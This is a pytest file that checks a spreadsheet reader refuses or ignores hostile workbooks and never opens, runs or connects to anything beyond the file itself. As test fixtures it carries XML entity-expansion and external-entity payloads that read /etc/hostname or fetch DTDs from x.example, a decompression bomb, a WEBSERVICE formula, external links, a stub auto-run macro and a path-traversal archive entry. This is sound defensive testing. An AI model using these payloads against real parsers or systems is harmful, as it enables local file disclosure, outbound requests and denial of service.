"""A workbook of a stranger is read as its cells say, or refused by name: nothing is run, followed or unpacked."""

from __future__ import annotations

import sys
import time
import tracemalloc
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from landmark_diffusion.core.errors import DataError
from landmark_diffusion.data.sources.folder.table import read_table
from tests.data.test_table_workbook import LINK, NAMES, ROWS, workbook

SHEET, BOOK, LINKS = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
TEXTS = "xl/sharedStrings.xml"
_EVENTS: list[tuple[str, str]] = []
_watching = False


def _note(event: str, arguments: tuple) -> None:
    if _watching and event in ("open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system", "exec"):
        _EVENTS.append((event, str(arguments[0])))


sys.addaudithook(_note)


@contextmanager
def watched() -> Iterator[list[tuple[str, str]]]:
    """Give what is opened, run or connected to meanwhile."""
    global _watching
    _EVENTS.clear()
    _watching = True
    try:
        yield _EVENTS
    finally:
        _watching = False


def sheet(rows: str, before: str = '<?xml version="1.0"?>') -> str:
    return f"{before}<worksheet {NAMES}><sheetData>{rows}</sheetData></worksheet>"


def changed(path: Path, **parts: str | bytes) -> Path:
    """Write the good workbook with other parts (SHEET, BOOK, LINKS, TEXTS) or with further ones."""
    with zipfile.ZipFile(workbook(path, ROWS)) as archive:
        found: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    found |= {{"SHEET": SHEET, "BOOK": BOOK, "LINKS": LINKS, "TEXTS": TEXTS}.get(k, k): v for k, v in parts.items()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in found.items():
            archive.writestr(name, content)
    return path


def refused(path: Path, said: str) -> None:
    """The table is refused in one line that names the file, in seconds."""
    start = time.monotonic()
    with pytest.raises(DataError, match=rf"points\.xlsx: .*{said}") as caught:
        read_table(path, "split")
    assert "\n" not in str(caught.value) and len(str(caught.value)) < 400
    assert time.monotonic() - start < 30


ENTITIES = '<!DOCTYPE w [<!ENTITY a "1"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE w [<!ENTITY c SYSTEM "file:///etc/hostname">]>'
FETCHED = '<!DOCTYPE w SYSTEM "http://x.example/w.dtd">'
PARAMETER = '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://x.example/p.dtd"> %p;]>'


@pytest.mark.parametrize("part", ["SHEET", "TEXTS", "BOOK", "LINKS"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("definition", [ENTITIES, OUTSIDE, FETCHED, PARAMETER])
def test_definitions_are_refused_in_every_part_and_encoding(
    tmp_path: Path, part: str, encoding: str, definition: str
) -> None:
    """In UTF-16 they were not seen, and expanded."""
    path = workbook(tmp_path / "points.xlsx", ROWS)
    with zipfile.ZipFile(path) as archive:
        name = {"SHEET": SHEET, "BOOK": BOOK, "LINKS": LINKS, "TEXTS": TEXTS}[part]
        text = archive.read(name).decode().partition("?>")[2] or archive.read(name).decode()
    text = f'<?xml version="1.0" encoding="{encoding}"?>{definition}{text.replace("101.5", "&c;")}'
    with watched() as events:
        refused(changed(path, **{part: text.encode(encoding)}), "defines entities, which no table does")
    assert {where for what, where in events} == {str(path)}


@pytest.mark.parametrize(("end", "said"), [(b">", "is larger than a table"), (b"", "has a tag that does not end")])
def test_a_part_that_inflates_to_more_than_a_table_is_refused(tmp_path: Path, end: bytes, said: str) -> None:
    """257 MiB of blanks behind a tag, and within one, which took minutes as it was read anew for each block."""
    path = workbook(tmp_path / "points.xlsx", ROWS)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            with archive.open(name, "w") as file:
                file.write(content.removesuffix(b"</worksheet>") + b"<x" + end if name == SHEET else content)
                for _ in range(257 if name == SHEET else 0):
                    file.write(b" " * 2**20)
    assert path.stat().st_size < 2 * 2**20
    refused(path, f"part xl/worksheets/sheet1.xml {said}")


@pytest.mark.parametrize("element", ["row", "c", "unknown"])
@pytest.mark.parametrize("deep", [False, True])
def test_many_empty_elements_cost_no_memory(tmp_path: Path, element: str, deep: bool) -> None:
    """A tree of them took 60 to 100 bytes for each of four; a file of 250 kB took 7 GB."""
    count = 60_000
    many = f"<{element}>" * count + f"</{element}>" * count if deep else f"<{element}/>" * count
    said = "the workbook has 0 filled sheets"
    path = changed(tmp_path / "points.xlsx", SHEET=sheet(many))
    tracemalloc.start()
    try:
        refused(path, "has deeper elements than a table" if deep else said)
        assert tracemalloc.get_traced_memory()[1] < 40 * count
    finally:
        tracemalloc.stop()


def test_more_elements_than_a_table_has_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from landmark_diffusion.core import safe_xml

    monkeypatch.setattr(safe_xml, "MOST_ELEMENTS", 1000)
    refused(changed(tmp_path / "points.xlsx", SHEET=sheet("<x/>" * 2000)), "has more elements than a table")


@pytest.mark.parametrize(
    ("rows", "said"),
    [
        ('<row r="99999999999"><c><v>1</v></c></row>', "found row '99999999999', expected 1 to 1048576"),
        ('<row r="1048577"><c><v>1</v></c></row>', "found row '1048577'"),
        (f'<row r="{"9" * 5000}"><c><v>1</v></c></row>', "found row '99999999999999999999', expected"),
        ('<row r="2"><c r="XFE2"><v>1</v></c></row>', "a cell of row 2 lies behind the last column, 16384"),
        ("<row>" + "<c/>" * 20_000 + "</row>", "a cell of row 1 lies behind the last column, 16384"),
        (f'<row><c t="s"><v>{"9" * 5000}</v></c></row>', "has no text"),
        ('<row><c t="s"><v>-1</v></c></row>', "has no text"),
        (f"<row><c><v>{'1' * 40_000}</v></c></row>", "has 40000 characters"),
    ],
)
def test_dimensions_that_no_workbook_has_are_refused(tmp_path: Path, rows: str, said: str) -> None:
    refused(changed(tmp_path / "points.xlsx", SHEET=sheet(rows)), said)


def test_a_stated_dimension_is_not_believed(tmp_path: Path) -> None:
    whole = f'<worksheet {NAMES}><dimension ref="A1:XFD1048576"/><sheetData>{ROWS}</sheetData></worksheet>'
    assert set(read_table(changed(tmp_path / "points.xlsx", SHEET=whole), "split").rows) == {"a", "b"}


def test_a_text_that_very_many_cells_share_is_counted_for_each(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from landmark_diffusion.core import safe_xml

    monkeypatch.setattr(safe_xml, "MOST_BYTES", 2**20)
    texts = f"<sst {NAMES}><si><t>{'a' * 30_000}</t></si></sst>"
    path = changed(tmp_path / "points.xlsx", TEXTS=texts, SHEET=sheet('<row><c t="s"><v>0</v></c></row>' * 100))
    refused(path, "all cells so far 1050000")


def test_formulas_are_not_run_and_links_and_macros_not_followed(tmp_path: Path) -> None:
    """The last value that stands in the file counts; a formula without one is an empty cell."""
    run = '<f>WEBSERVICE("http://x.example/")</f>'
    rows = ROWS.replace("<f>1+2</f>", run).replace('<c r="F3"><v>4E1</v>', f'<c r="F3">{run}<v>4E1</v>')
    rows = rows.replace('<c r="C4" t="str"><v> 7 </v></c><c><v>8</v></c>', f'<c r="C4">{run}</c><c>{run}</c>')
    rows = rows.replace('<c r="E4" t="e"><v>#N/A</v></c>', '<c r="E4"><v>5</v></c><c r="F4"><v>6</v></c>')
    external = {
        "xl/externalLinks/externalLink1.xml": f"<externalLink {NAMES}/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": (
            f'<Relationships><Relationship Id="rId1" Type="{LINK}/externalLinkPath" TargetMode="External" '
            'Target="file:///etc/hostname"/></Relationships>'
        ),
        "xl/connections.xml": '<connections><connection url="http://x.example/"/></connections>',
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub Auto_Open() Shell(touch mark)",
        "../../outside.txt": "left the archive",
    }
    (tmp_path / "in").mkdir()
    path = changed(tmp_path / "in" / "points.xlsm", SHEET=sheet(rows), **external)  # type: ignore[arg-type]
    with watched() as events:
        table = read_table(path, "split")
    assert table.rows["a"].marks == {("annotator", "nasion"): (101.5, 0.1, 3), ("annotator", "sella"): (3, 40, 3)}
    assert table.rows["b"].marks == {("annotator", "sella"): (5, 6, 4)}
    assert {where for what, where in events} == {str(path)} and {what for what, where in events} == {"open"}
    assert sorted(each.name for each in tmp_path.rglob("*")) == ["in", "points.xlsm"]


@pytest.mark.parametrize("target", ["http://x.example/s.xml", "file:///etc/hostname", "../../../../../etc/hostname"])
def test_a_sheet_elsewhere_is_not_fetched(tmp_path: Path, target: str) -> None:
    path = workbook(tmp_path / "points.xlsx", ROWS, targets=target.replace("{", "{{"))
    with watched() as events:
        refused(path, "no whole Excel workbook")
    assert {where for what, where in events} == {str(path)}


def test_formulas_as_text_are_no_numbers(tmp_path: Path) -> None:
    rows = ROWS.replace('<c r="C3"><v>101.5</v></c>', '<c r="C3" t="inlineStr"><is><t>=1+1</t></is></c>')
    (fault,) = read_table(changed(tmp_path / "points.xlsx", SHEET=sheet(rows)), "split").faults
    assert "found '=1+1', expected a number" in str(fault) and fault.line == 3
